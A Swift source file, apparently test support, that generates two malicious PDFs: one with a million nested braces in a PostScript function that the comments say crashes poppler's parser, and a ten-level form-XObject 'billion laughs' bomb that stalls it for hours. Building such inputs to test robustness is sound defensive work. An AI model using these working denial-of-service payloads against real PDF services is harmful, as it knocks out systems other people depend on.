import Foundation

/// Small PDFs made to break a PDF library, built at test time so no binary sample is
/// needed. They are real attacks, not test hooks: poppler itself (pdftotext too) dies on
/// the first and spins on the second.
enum MaliciousPDF {
  /// A PDF whose Separation colour space has a PostScript (Type 4) function of a million
  /// nested `{`: poppler's recursive function parser runs out of stack (SIGSEGV).
  static var stackOverflow: Data {
    let body = String(repeating: "{", count: 1_000_000)
    return document([
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        + "/Resources << /ColorSpace << /CS0 [/Separation /Ink /DeviceGray 5 0 R] >> >> /Contents 4 0 R >>",
      stream("", "/CS0 cs 0 0 1 1 re"),
      stream("/FunctionType 4 /Domain [0 1] /Range [0 1]", body),
    ])
  }

  /// A 3 KB "billion laughs" PDF: ten levels of form XObjects, each drawing the next ten
  /// times — 10⁹ form invocations; poppler needs about 7 µs each, some two hours.
  static var formBomb: Data {
    var objects = [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /X 5 0 R >> >> /Contents 4 0 R >>",
      stream("", "/X Do"),
    ]
    let levels = 10
    for level in 0..<levels {
      let number = 5 + level
      let last = level == levels - 1
      let resources = last ? "/Resources << >>" : "/Resources << /XObject << /X \(number + 1) 0 R >> >>"
      let body = last ? "q Q" : Array(repeating: "/X Do", count: 10).joined(separator: " ")
      objects.append(stream("/Type /XObject /Subtype /Form /BBox [0 0 10 10] \(resources)", body))
    }
    return document(objects)
  }

  private static func stream(_ dictionary: String, _ body: String) -> String {
    "<< \(dictionary) /Length \(body.utf8.count) >>\nstream\n\(body)\nendstream"
  }

  /// A PDF file of `objects` (numbered from 1) with a correct cross-reference table.
  private static func document(_ objects: [String]) -> Data {
    var output = Data("%PDF-1.4\n".utf8)
    var offsets: [Int] = []
    for (index, object) in objects.enumerated() {
      offsets.append(output.count)
      output.append(Data("\(index + 1) 0 obj\n\(object)\nendobj\n".utf8))
    }
    let xref = output.count
    var table = "xref\n0 \(objects.count + 1)\n0000000000 65535 f \n"
    for offset in offsets { table += String(format: "%010d 00000 n \n", offset) }
    table += "trailer\n<< /Size \(objects.count + 1) /Root 1 0 R >>\nstartxref\n\(xref)\n%%EOF\n"
    output.append(Data(table.utf8))
    return output
  }
}
